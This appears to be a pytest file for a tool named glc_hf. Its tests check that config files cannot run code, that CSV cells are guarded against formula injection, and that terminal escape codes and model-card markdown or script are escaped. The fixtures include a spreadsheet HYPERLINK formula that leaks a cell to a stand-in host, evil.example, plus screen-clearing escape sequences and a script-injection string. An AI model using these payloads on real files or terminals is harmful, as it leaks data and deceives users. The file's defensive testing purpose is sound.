# Copyright 2026 The glc_hf team. Licensed under the Apache License, Version 2.0.
"""Files that someone else wrote: they run no code, and their texts stay texts."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from glc_hf.audit.decisions import Decisions
from glc_hf.cli.main import printable
from glc_hf.cli.parsing import parse
from glc_hf.cli.train import when_interrupted
from glc_hf.data.data_files import mark_formula, unmark_formula
from glc_hf.hub.facts import read_facts, write_facts
from tests.cli.conftest import write_csv

from .conftest import noisy_csv


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("line", "option"),
    [
        ("method: evil:Method", "--method evil:Method"),
        ("compare: [glc, evil:Method]", "--compare evil:Method"),
        ("trust_remote_code: true", "--trust_remote_code"),
        ("trust-remote-code: yes", "--trust-remote-code"),
        ("overwrite_output_dir: true", "--overwrite-output-dir"),
        ("trust_config: true", ""),
    ],
)
def test_configuration_file_does_not_run_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str, option: str
) -> None:
    (tmp_path / "evil.py").write_text(
        "open('ran', 'w')\nfrom glc_hf.methods import Method\nclass Method(Method):\n    '''One stage.'''\n"
    )
    file = tmp_path / "run.yaml"
    file.write_text(f"{line}\noutput_dir: {tmp_path / 'out'}\n")
    monkeypatch.chdir(tmp_path)
    name = line.partition(":")[0].replace("-", "_")
    with pytest.raises(ValueError, match=rf"run\.yaml sets {name}.*--trust-config"):
        parse([str(file)])
    assert not (tmp_path / "ran").exists()
    assert parse([str(file), "--trust-config"]).config.output_dir == str(tmp_path / "out")
    if option:
        assert parse([str(file), *option.split()])


@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
def test_marked_text_is_no_formula_and_is_read_back(text: str) -> None:
    marked = mark_formula(text)
    assert not re.match(r"[=+\-@\t\r]", marked)
    assert unmark_formula(marked) == text


def test_formulas_in_an_audit_are_texts_and_apply_reads_them_back(trained: Path, glc_hf, tmp_path: Path) -> None:
    data = pd.read_csv(trained / "train.csv")
    data.loc[3, "text"] = FORMULA
    data["+note"] = ["@SUM(A1)", "fine"] * 30
    data["number"] = -1.5
    data.to_csv(trained / "train.csv", index=False)
    outcome = glc_hf("audit", trained / "model", "--dataset", trained / "train.csv", "--folds", "0", "--suggest", "60")
    assert outcome.code == 0, outcome.err
    for name in ("audit.csv", "suggest.csv"):
        table = pd.read_csv(trained / "model" / "audit" / name, dtype=str, keep_default_na=False)
        cells = [*table.columns, *(value for column in table if column != "number" for value in table[column])]
        assert "'" + FORMULA in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert (table.get("number", "-1.5") == "-1.5").all() if "number" in table else True
    audit = trained / "model" / "audit" / "audit.csv"
    applied = glc_hf(
        "apply", "--auto-fix", "0.01", "--audit", audit, "--dataset", trained / "train.csv",
        "--output", tmp_path / "new.csv",
    )  # fmt: skip
    assert applied.code == 0, applied.err
    new = pd.read_csv(tmp_path / "new.csv")
    assert new["text"].tolist() == data["text"].tolist()
    assert new["+note"].tolist() == data["+note"].tolist()


def test_marked_labels_in_decisions_are_read_back(tmp_path: Path) -> None:
    file = tmp_path / "decisions.csv"
    file.write_text("row,label,given_label\n0,'=bad,'-1\n1,good,'quoted'\n")
    decisions = Decisions.read(file).entries
    assert [(entry.label, entry.given_label) for entry in decisions] == [("=bad", "-1"), ("good", "'quoted'")]


def test_escape_codes_in_class_names_do_not_reach_the_terminal(train, tmp_path: Path, glc_hf) -> None:
    data = noisy_csv(tmp_path / "train.csv")
    data.write_text(data.read_text().replace("animal", "ani\x1b[2J\x1b]0;owned\x07mal"))
    for outcome in (train(data=data), glc_hf("check", data)):
        assert outcome.code == 0, outcome.err
        assert "\x1b" not in outcome.out + outcome.err
        assert "\x07" not in outcome.out + outcome.err
    assert "\\x1b[2J" in outcome.out
    missing = glc_hf("audit", tmp_path / "no\x1b[31m", "--dataset", data)
    assert "\\x1b[31m" in missing.complaint


def test_printable_keeps_other_texts() -> None:
    assert printable("größer\t→ 日本\n\u202eabc\x9b") == "größer\t→ 日本\n\\u202eabc\\x9b"


def test_facts_in_a_card_are_escaped(trained: Path, glc_hf) -> None:
    model, evil = trained / "model", "x\n\n# Owned <script>alert(1)</script> [click](http://evil.example) `rm`"
    facts = read_facts(model)
    facts.update(
        model_name=evil, method=evil, license=evil, method_title=evil, stage1=evil,
        dataset={"name": evil, "on_hub": True}, base_model={"name": evil, "on_hub": False, "license": evil},
        versions={evil: evil}, arguments={evil: evil}, warnings=[evil],
        simulated_noise={"kind": evil, "strength": None},
        comparison=[{"method": evil, "accuracy": 0.5}, {"method": "glc", "accuracy": 0.6}],
    )  # fmt: skip
    write_facts(model, facts)
    outcome = glc_hf("card", model)
    assert outcome.code == 0, outcome.err
    text = (model / "README.md").read_text().split("---\n", 2)[2]  # after the metadata, which are quoted YAML
    text = re.sub(r"`[^`\n]*`", "", re.sub(r"```.*?```", "", text, flags=re.DOTALL))  # without code
    assert "\n# Owned" not in text
    assert not re.search(r"(?<!\\)<script", text)
    assert not re.search(r"(?<!\\)\]\(http://evil", text)


@pytest.mark.parametrize("words", [["--hub_token", "hf_secret"], ["--hub-token=hf_secret"], ["--hub_token", "-hf_s"]])
def test_token_is_not_in_the_command_to_resume(words: list[str]) -> None:
    text = when_interrupted([*words, "--seed", "1"])
    assert "hf_s" not in text
    assert text.endswith("\nglc-hf train --seed 1 --resume_from_checkpoint True")
    assert "set HF_TOKEN" in text


def test_decisions_of_a_later_version_are_refused(tmp_path: Path) -> None:
    file = tmp_path / "decisions.json"
    file.write_text(json.dumps({"format": "glc_hf decisions", "format_version": 2}))
    with pytest.raises(ValueError, match="has format_version 2; this version of glc_hf reads 1"):
        Decisions.read(file)


def test_names_of_columns_are_printed_safely(train, tmp_path: Path) -> None:
    rows = [{"a\x1b[2Jb": 1, "c": 2}] * 3
    assert "\x1b" not in train(data=write_csv(tmp_path / "odd.csv", rows)).err
